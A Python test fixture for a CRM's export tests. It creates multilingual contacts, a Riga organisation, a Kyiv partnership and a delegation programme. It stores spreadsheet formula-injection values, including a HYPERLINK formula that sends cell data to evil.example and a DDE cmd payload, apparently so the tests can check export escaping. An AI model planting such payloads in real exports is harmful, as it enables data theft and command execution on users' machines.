"""An office for the export tests (a fixture the test modules import): people with names in
every script, every kind of contact, values that look like formulas, an organisation, a
partnership and a visit with a programme."""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import UTC, date, datetime

import pytest

from crm.db.database import Database
from crm.services.contact_points import AddressInput, ContactPointInput
from crm.services.delegation_parts import MemberInput, ProgrammeItemInput
from crm.services.delegations import DelegationInput, create_delegation
from crm.services.office import OfficeProfile, save_profile
from crm.services.organisations import OrganisationInput, create_organisation
from crm.services.partnerships import PartnershipInput, create_partnership
from crm.services.people import AffiliationInput, PersonInput, create_person

# (given, family, name as written, Latin transliteration, language, country)
SCRIPTS = [
    ("Inese", "Bērziņa", None, None, "lv", "LV"),
    ("Vitali", "Klitschko", "Віталій Кличко", "Vitali Klitschko", "uk", "UA"),
    ("Konstantinos", "Zervas", "Κωνσταντίνος Ζέρβας", "Konstantinos Zervas", "el", "GR"),
    ("Yariv", "Fisher", "יריב פישר", "Yariv Fisher", "he", "IL"),
    ("Wei", "Chen", "陈伟", "Chen Wei", "zh", "CN"),
    ("Ji-woo", "Kim", "김지우", "Kim Ji-woo", "ko", "KR"),
    ("Mulugeta", "Alemu", "ሙሉጌታ አለሙ", "Mulugeta Alemu", "am", "ET"),
    ("Олена", "Коваль", None, "Olena Koval", "uk", "UA"),
]

# Values a spreadsheet would read as formulas, as the people type them in.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@dataclass
class Office:
    people: dict[str, int] = field(default_factory=dict)
    organisation_id: int = 0
    partnership_id: int = 0
    delegation_id: int = 0
    formula_person_id: int = 0


@pytest.fixture(name="office")
def office_fixture(db: Database) -> Office:
    save_profile(db, OfficeProfile(office_name="Referat Internationales", city="Leipzig"))
    found = Office()
    found.organisation_id, _changes = create_organisation(
        db,
        OrganisationInput(
            name="Rīgas pilsētas dome",
            name_latin="Riga City Council",
            short_name="RD",
            kind="city_administration",
            city="Rīga",
            country="LV",
            contact_points=[
                ContactPointInput("phone", "+371 67 012 800", "office", True),
                ContactPointInput("fax", "+371 67 012 801"),
                ContactPointInput("email", "protokols@riga.lv", None, True),
                ContactPointInput("web", "https://www.riga.lv"),
            ],
            addresses=[AddressInput("Rātslaukums 1", "LV-1050", "Rīga", None, "LV", None, True)],
        ),
    )
    for given, family, original, latin, language, country in SCRIPTS:
        found.people[family], _changes = create_person(
            db,
            PersonInput(
                family_name=family,
                given_name=given,
                title="Dr." if family == "Bērziņa" else None,
                name_original=original,
                name_latin=latin,
                function="Head of protocol; international relations, culture",
                preferred_language=language,
                languages=f"{language},en",
                country=country,
                contact_points=[
                    ContactPointInput("phone", "+371 6 34 04789", "office", True),
                    ContactPointInput("phone", "+49 341 123-2020", "assistant"),
                    ContactPointInput("mobile", "+371 29 123 456", "office"),
                    ContactPointInput("fax", "+371 6 34 04790"),
                    ContactPointInput(
                        "email", f"{latin or family}@example.org".replace(" ", "."), None, True
                    ),
                    ContactPointInput("email", "private@example.net", "private"),
                ],
                addresses=[
                    AddressInput(
                        "Rožu laukums 5-6", "LV-3401", "Liepāja", None, country, "office", True
                    )
                ],
                affiliations=[
                    AffiliationInput(
                        found.organisation_id, "Protocol", "Protocol, Department", is_primary=True
                    )
                ],
            ),
        )
    found.formula_person_id, _changes = create_person(
        db,
        PersonInput(
            family_name=FORMULAS[0],
            given_name=FORMULAS[1],
            function=FORMULAS[2],
            salutation=FORMULAS[3],
            form_of_address=FORMULAS[6],
            contact_points=[ContactPointInput("email", "formula@example.org")],
            addresses=[AddressInput("=1+1", None, "@home", None, "DE")],
        ),
    )
    found.partnership_id, _changes = create_partnership(
        db,
        PartnershipInput(
            city_name="Kiew",
            city_name_native="Київ",
            country="UA",
            since_year=1961,
            kind="twin_city",
            activity_rating="AA",
            themes=["culture", "education"],
        ),
    )
    klitschko, kim = found.people["Klitschko"], found.people["Kim"]
    found.delegation_id, _changes = create_delegation(
        db,
        DelegationInput(
            title="Besuch aus Kyjiw; Kultur, Bildung",
            start_date=date(2026, 3, 27),
            end_date=date(2026, 3, 30),
            partnership_id=found.partnership_id,
            status="confirmed",
            hotel="Hotel Fürstenhof",
            members=[
                MemberInput(
                    klitschko,
                    "Head of the delegation",
                    1,
                    arrival=datetime(2026, 3, 27, 9, 30, tzinfo=UTC),
                    dietary_needs="vegetarian",
                ),
                MemberInput(kim, "Interpreter", 2),
            ],
            programme=[
                ProgrammeItemInput(
                    datetime(2026, 3, 28, 8, 0, tzinfo=UTC),  # 09:00 in Leipzig (winter)
                    "Empfang im Rathaus; Eintrag ins Goldene Buch",
                    datetime(2026, 3, 28, 9, 30, tzinfo=UTC),
                    "golden_book",
                    "Neues Rathaus, Festsaal",
                    "Dark suit",
                    "Bring the gift,\nand the flags",
                    [klitschko],
                ),
                ProgrammeItemInput(
                    datetime(2026, 3, 29, 10, 0, tzinfo=UTC),  # 12:00 in Leipzig (summer)
                    "Mittagessen",
                    datetime(2026, 3, 29, 11, 30, tzinfo=UTC),
                    "meal",
                ),
            ],
        ),
    )
    return found
